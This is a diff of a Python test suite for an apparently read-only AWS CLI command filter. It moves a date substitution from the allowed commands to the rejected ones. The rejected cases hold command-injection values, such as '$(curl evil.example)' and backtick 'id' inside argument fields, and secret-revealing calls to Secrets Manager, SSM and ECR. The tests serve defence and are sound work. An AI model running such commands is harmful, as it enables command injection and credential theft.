@@ -14,8 +14,8 @@ from functions.analyze.commands import CommandFilter, aws_commands_in_text, chec
         "aws ec2 describe-instances --instance-ids i-0abc --query 'Reservations[].Instances[?State.Name==`running`]'",
         "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=PutObject",
         "aws logs filter-log-events --log-group-name /aws/lambda/ImageProcessor --filter-pattern ERROR",
-        "aws logs start-query --log-group-name /aws/lambda/x --start-time $(date -d '-1 hour' +%s) "
-        "--end-time $(date +%s) --query-string 'fields @message | filter @message like /ERROR/ | limit 20'",
+        "aws logs start-query --log-group-name /aws/lambda/x --start-time 1764576000 "
+        "--end-time 1764579600 --query-string 'fields @message | filter @message like /ERROR/ | limit 20'",
         "aws logs get-query-results --query-id 12ab",
         "aws --region eu-west-1 cloudwatch list-metrics --namespace AWS/Lambda",
         "aws s3 ls s3://images-thumbnails/",
@@ -45,6 +45,7 @@ def test_read_only_commands_are_allowed(command: str) -> None:
         ("aws lambda get-function --function-name $(curl evil.example)", "metacharacter"),
         ("aws lambda get-function --function-name `id`", "metacharacter"),
         ('aws lambda get-function --function-name "$HOME"', "metacharacter"),
+        ("aws logs start-query --log-group-name /aws/x --start-time $(date -d '-1 hour' +%s)", "metacharacter"),
         ("aws secretsmanager get-secret-value --secret-id prod/db", "reveals secrets"),
         ("aws ssm get-parameter --name /prod/key --with-decryption", "reveals secrets"),
         ("aws ecr get-login-password", "reveals secrets"),
